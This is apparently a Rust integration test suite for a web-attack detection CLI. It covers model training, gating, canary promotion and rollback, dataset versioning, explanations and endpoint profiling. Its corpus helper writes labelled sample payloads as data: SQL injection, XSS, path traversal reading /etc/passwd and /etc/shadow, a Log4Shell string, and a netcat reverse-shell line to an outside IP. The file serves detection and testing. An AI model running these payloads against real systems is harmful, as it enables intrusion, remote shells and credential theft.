//! The model life cycle through the CLI: train, gate, register, canary,
//! promote, roll back; evaluate; datasets; profiles; explanations.

mod common;

use common::*;
use serde_json::Value;

/// A small labelled corpus written as CSV: generated-looking attacks and
/// everyday values, `n` of each class.
fn corpus_csv(dir: &std::path::Path, scrambled: bool) -> std::path::PathBuf {
    let attacks = [
        (
            "sqli",
            vec![
                "1' or '1'='1",
                "1 union select password from users--",
                "admin'--",
                "1; drop table users",
                "' or 1=1#",
                "1 and sleep(5)",
                "x' and extractvalue(1,concat(0x7e,version()))--",
            ],
        ),
        (
            "xss",
            vec![
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(document.cookie)>",
                "javascript:alert(1)",
                "\"><iframe src=javascript:alert(1)>",
                "<body onload=prompt(1)>",
                "<a href=javascript:confirm(1)>x</a>",
            ],
        ),
        (
            "cmdi",
            vec![
                "; cat /etc/passwd",
                "| id",
                "$(whoami)",
                "`uname -a`",
                "&& ping -c 3 10.0.0.1",
                "; nc -e /bin/sh 1.2.3.4 4444",
                "${jndi:ldap://x/a}",
            ],
        ),
        (
            "path_traversal",
            vec![
                "../../etc/passwd",
                "..%2f..%2fetc%2fshadow",
                "....//....//etc/hosts",
                "..\\..\\windows\\win.ini",
                "/etc/passwd%00.jpg",
                "../../../../proc/self/environ",
                "file:///etc/passwd",
            ],
        ),
        (
            "benign",
            vec![
                "red shoes",
                "O'Brien",
                "alice@example.com",
                "42",
                "select the best gift",
                "size 9 please",
                "2026-01-01",
                "tea & biscuits",
                "Zürich",
                "hello world",
                "john smith",
                "page=2",
            ],
        ),
    ];
    let mut rows = vec!["payload,label".to_string()];
    let labels = ["sqli", "xss", "cmdi", "path_traversal", "benign"];
    let mut k = 0usize;
    for round in 0..12 {
        for (class, values) in &attacks {
            for v in values {
                let label = if scrambled {
                    labels[(k * 7 + round) % labels.len()]
                } else {
                    class
                };
                k += 1;
                let text = format!("{v} {round}").replace('"', "\"\"");
                rows.push(format!("\"{text}\",{label}"));
            }
        }
    }
    let p = dir.join(if scrambled {
        "scrambled.csv"
    } else {
        "corpus.csv"
    });
    std::fs::write(&p, rows.join("\n") + "\n").unwrap();
    p
}

fn registry(dir: &std::path::Path) -> Value {
    serde_json::from_str(&ok(sentinel_in(dir, &["models", "list", "--json"]))).unwrap()
}

#[test]
fn train_gate_canary_promote_rollback() {
    let data = private_data_dir();
    let d = data.path();
    let before = registry(d);
    let default_version = before["active"].as_str().unwrap().to_string();
    let files = tempfile::tempdir().unwrap();
    let good = corpus_csv(files.path(), false);

    // Train on generated data plus the corpus, promote as a 10 % canary.
    let out = sentinel_in(
        d,
        &[
            "train",
            "--quiet",
            "--corpus",
            good.to_str().unwrap(),
            "--folds",
            "3",
            "--epochs",
            "3",
            "--promote",
            "10",
        ],
    );
    let text = ok(out);
    assert!(text.contains("gate: passed"), "{text}");
    assert!(text.contains("canary at 10%"), "{text}");
    let state = registry(d);
    let canary = state["canary"]["version"].as_str().unwrap().to_string();
    assert_ne!(canary, default_version);
    assert_eq!(state["active"], default_version.as_str());
    let meta = state["versions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["version"] == canary.as_str())
        .unwrap()
        .clone();
    assert_eq!(meta["parent"], default_version.as_str());
    assert!(meta["metrics"]["macro_f1"].as_f64().unwrap() > 0.9);
    assert_eq!(meta["metrics"]["cv_folds"].as_f64().unwrap(), 3.0);

    // Classify routes client keys to the canary deterministically.
    let pick = |want: &str| {
        (0..10_000)
            .map(|i| format!("ip:10.0.{}.{}", i / 256, i % 256))
            .find(|k| sentinel_models::registry::route(k, "a", Some(("c", 10.0))) == want)
            .unwrap()
    };
    for (client, expect) in [
        (pick("c"), canary.as_str()),
        (pick("a"), default_version.as_str()),
    ] {
        let out = ok(sentinel_in_stdin(
            d,
            &["classify", "--client", &client],
            b"1' or '1'='1\n",
        ));
        let row: Value = serde_json::from_str(out.trim()).unwrap();
        assert_eq!(row["model"], expect, "{client}");
        assert_eq!(row["label"], "sqli");
    }

    // Promote to everyone, then roll back to the default.
    ok(sentinel_in(d, &["models", "promote", &canary]));
    assert_eq!(registry(d)["active"], canary.as_str());
    assert!(registry(d)["canary"].is_null());
    ok(sentinel_in(d, &["models", "rollback"]));
    assert_eq!(registry(d)["active"], default_version.as_str());

    // A model trained on scrambled labels fails the gate: exit code 3,
    // registered, but promotion is refused.
    let bad = corpus_csv(files.path(), true);
    let out = sentinel_in(
        d,
        &[
            "train",
            "--quiet",
            "--no-generated",
            "--corpus",
            bad.to_str().unwrap(),
            "--folds",
            "3",
            "--epochs",
            "3",
        ],
    );
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(text.contains("gate: FAILED"), "{text}");
    let bad_version = text
        .lines()
        .find_map(|l| l.strip_prefix("registered "))
        .unwrap()
        .split(' ')
        .next()
        .unwrap()
        .to_string();
    let out = sentinel_in(d, &["models", "promote", &bad_version]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("did not pass gating"));
    assert_eq!(registry(d)["active"], default_version.as_str());
}

#[test]
fn eval_reports_per_class_figures() {
    let files = tempfile::tempdir().unwrap();
    let good = corpus_csv(files.path(), false);
    let out = ok(sentinel(&[
        "eval",
        "--quiet",
        "--data",
        good.to_str().unwrap(),
        "--json",
    ]));
    let v: Value = serde_json::from_str(&out).unwrap();
    let m = &v["metrics"];
    assert_eq!(m["samples"], 480);
    let per_class = m["per_class"].as_array().unwrap();
    assert_eq!(per_class.len(), 5);
    for c in per_class {
        assert!(c["recall"].as_f64().unwrap() > 0.8, "{c}");
    }
    assert_eq!(m["confusion"].as_array().unwrap().len(), 6);
    assert_eq!(m["sweep"].as_array().unwrap().len(), 3);
    // The rules alone, as text tables.
    let text = ok(sentinel(&[
        "eval",
        "--quiet",
        "--data",
        good.to_str().unwrap(),
        "--model",
        "rules-v1",
        "--errors",
        "3",
    ]));
    assert!(text.contains("Model rules-v1 on 480 samples"), "{text}");
    assert!(text.contains("truth \\ predicted"), "{text}");
    // A file without labels is a clear error.
    let bad = files.path().join("nolabel.csv");
    std::fs::write(&bad, "payload\nx\n").unwrap();
    let out = sentinel(&["eval", "--quiet", "--data", bad.to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no attack_type/class/label column"));
}

#[test]
fn datasets_are_versioned_and_train_models() {
    let data = tempfile::tempdir().unwrap();
    let d = data.path();
    let files = tempfile::tempdir().unwrap();
    let good = corpus_csv(files.path(), false);
    let first = ok(sentinel_in(
        d,
        &["dataset", "import", good.to_str().unwrap()],
    ));
    assert!(
        first.starts_with("main@") && first.contains("480 samples"),
        "{first}"
    );
    // A false-positive report, and a conflicting duplicate.
    ok(sentinel_in(
        d,
        &[
            "dataset",
            "add",
            "--label",
            "benign",
            "--false-positive",
            "--predicted",
            "sqli",
            "--evidence",
            "ev-1",
            "--payload",
            "select the best gift 0",
        ],
    ));
    let stats: Value =
        serde_json::from_str(&ok(sentinel_in(d, &["dataset", "stats", "--json"]))).unwrap();
    let q = &stats["quality"];
    assert_eq!(q["samples"], 481);
    assert_eq!(q["false_positive_reports"], 1);
    assert_eq!(q["duplicates"], 1);
    let log = ok(sentinel_in(d, &["dataset", "log"]));
    assert_eq!(log.lines().filter(|l| l.contains("┆")).count(), 3, "{log}");
    // Stratified, seeded splits; CSV export.
    let out = files.path().join("test.csv");
    ok(sentinel_in(
        d,
        &[
            "dataset",
            "export",
            "--split",
            "test",
            "--out",
            out.to_str().unwrap(),
        ],
    ));
    let test_rows = std::fs::read_to_string(&out).unwrap().lines().count() - 1;
    assert!((40..=56).contains(&test_rows), "{test_rows}");
    let out2 = files.path().join("test2.csv");
    ok(sentinel_in(
        d,
        &[
            "dataset",
            "export",
            "--split",
            "test",
            "--out",
            out2.to_str().unwrap(),
        ],
    ));
    assert_eq!(std::fs::read(&out).unwrap(), std::fs::read(&out2).unwrap());
    let jsonl_all = ok(sentinel_in(
        d,
        &["dataset", "export", "--format", "jsonl", "--split", "all"],
    ));
    assert_eq!(jsonl_all.lines().count(), 481);
    assert!(jsonl_all.lines().all(|l| l.contains("\"split\":")));
    // Train from the dataset (no generated corpus): the version is recorded.
    let head = ok(sentinel_in(d, &["dataset", "stats", "--json"]));
    let head: Value = serde_json::from_str(&head).unwrap();
    let text = ok(sentinel_in(
        d,
        &[
            "train",
            "--quiet",
            "--no-generated",
            "--dataset",
            "main",
            "--folds",
            "3",
            "--epochs",
            "3",
            "--json",
        ],
    ));
    let report: Value = serde_json::from_str(&text).unwrap();
    let version = report["version"].as_str().unwrap();
    let state = registry(d);
    let meta = state["versions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["version"] == version)
        .unwrap()
        .clone();
    assert_eq!(meta["dataset_version"], head["version"]);
    // Damaged storage is reported, not read.
    let objects = d.join("datasets/objects");
    for e in std::fs::read_dir(&objects).unwrap() {
        std::fs::write(e.unwrap().path(), b"garbage").unwrap();
    }
    let out = sentinel_in(d, &["dataset", "stats"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("damaged"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn explanations_add_up_and_render() {
    let dir = tempfile::tempdir().unwrap();
    let html = dir.path().join("payload.html");
    let out = ok(sentinel(&[
        "explain",
        "--payload",
        "1' union select password from users--",
        "--json",
        "--html",
        html.to_str().unwrap(),
    ]));
    let v: Value = serde_json::from_str(&out).unwrap();
    let e = &v["explanation"];
    assert_eq!(e["class"], "sqli");
    assert_eq!(e["method"], "linear-exact");
    let sum: f64 = e["contributions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["phi"].as_f64().unwrap())
        .sum();
    let diff = e["value"].as_f64().unwrap() - e["baseline"].as_f64().unwrap();
    assert!(
        (sum - diff).abs() < 1e-2 * diff.abs().max(1.0),
        "{sum} vs {diff}"
    );
    assert!(v["narrative"].as_str().unwrap().contains("SQL injection"));
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(
        page.starts_with("<!DOCTYPE html>")
            && page.contains("<svg")
            && page.contains("<mark class=\"sig\"")
    );
    assert!(!page.contains("<script"), "self-contained, no scripts");

    // A verdict, by replaying the sample: payload and behaviour explained.
    let report = dir.path().join("verdict.html");
    let out = ok(sentinel(&[
        "explain",
        "--events",
        "examples/sample.jsonl",
        "--evidence-id",
        "scan-210",
        "--json",
        "--html",
        report.to_str().unwrap(),
    ]));
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["decision"], "simulate");
    let b = &v["explanation"]["behaviour"];
    let sum: f64 = b["contributions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["phi"].as_f64().unwrap())
        .sum();
    let diff = b["score"].as_f64().unwrap() - b["baseline"].as_f64().unwrap();
    assert!((sum - diff).abs() < 1e-3, "{sum} vs {diff}");
    let p = &v["explanation"]["payload"];
    let sum: f64 = p["contributions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["phi"].as_f64().unwrap())
        .sum();
    let diff = p["value"].as_f64().unwrap() - p["baseline"].as_f64().unwrap();
    assert!(
        (sum - diff).abs() < 1e-2 * diff.abs().max(1.0),
        "{sum} vs {diff}"
    );
    let page = std::fs::read_to_string(&report).unwrap();
    assert!(page.contains("scan-210") && page.contains("Behaviour"));
    // Replays with --explain carry explanations for alerts only.
    let out_dir = replay(&["examples/sample.jsonl"], 2, &["--explain"]);
    let verdicts = jsonl(&out_dir.path().join("verdicts.jsonl"));
    for v in &verdicts {
        assert_eq!(
            v["explanation"].is_object(),
            v["decision"] != "benign",
            "{}",
            v["evidence_id"]
        );
    }
    let out = ok(sentinel(&[
        "explain",
        "--verdicts",
        out_dir.path().join("verdicts.jsonl").to_str().unwrap(),
        "--evidence-id",
        "scan-210",
    ]));
    assert!(out.contains("Decision simulate"), "{out}");
}

#[test]
fn a_learned_profile_flags_unusual_values_on_known_endpoints() {
    let Some(csic) = shared("csic2010/normalTrafficTraining.txt.gz") else {
        return;
    };
    let data = private_data_dir();
    let d = data.path();
    let out = ok(sentinel_in(
        d,
        &["profile", "learn", "--quiet", csic.to_str().unwrap()],
    ));
    assert!(out.contains("learned 36 endpoints"), "{out}");
    let show = ok(sentinel_in(d, &["profile", "show"]));
    assert!(
        show.contains("GET /tienda1/publico/anadir.jsp") && show.contains("query:cantidad"),
        "{show}"
    );
    // Requests to a learned endpoint: one ordinary, one with a value no
    // signature knows but the profile does not expect.
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("e.jsonl");
    let ev = |id: &str, t: i64, target: &str| {
        serde_json::json!({"evidence_id": id, "event_time_ms": t, "client": {"ip": format!("198.51.100.{t}")},
            "request": {"method": "GET", "target": target, "headers": [{"name": "Host", "value": "localhost:8080"}]}})
        .to_string()
    };
    std::fs::write(
        &events,
        [
            ev("ok", 1, "/tienda1/publico/anadir.jsp?id=2&nombre=Vino+Rioja&precio=85&cantidad=49&B1=A%F1adir+al+carrito"),
            ev("odd", 2, "/tienda1/publico/anadir.jsp?id=2&nombre=Vino+Rioja&precio=85&cantidad=lots%7Bplease%7D&B1=A%F1adir+al+carrito"),
        ]
        .join("\n")
            + "\n",
    )
    .unwrap();
    let out = tempfile::tempdir().unwrap();
    ok(sentinel_in(
        d,
        &[
            "replay",
            "--quiet",
            "--out",
            out.path().to_str().unwrap(),
            events.to_str().unwrap(),
        ],
    ));
    let verdicts = jsonl(&out.path().join("verdicts.jsonl"));
    let get = |id: &str| {
        verdicts
            .iter()
            .find(|v| v["evidence_id"] == id)
            .unwrap()
            .clone()
    };
    assert!(get("ok")["profile_score"].is_null(), "{}", get("ok"));
    let odd = get("odd");
    assert!(odd["profile_score"].as_f64().unwrap() >= 0.8, "{odd}");
    assert!(
        odd["anomalies"].to_string().contains("query:cantidad"),
        "{odd}"
    );
    assert!(
        odd["payload_score"].as_f64().unwrap() < 0.5,
        "no signature knows it: {odd}"
    );
}
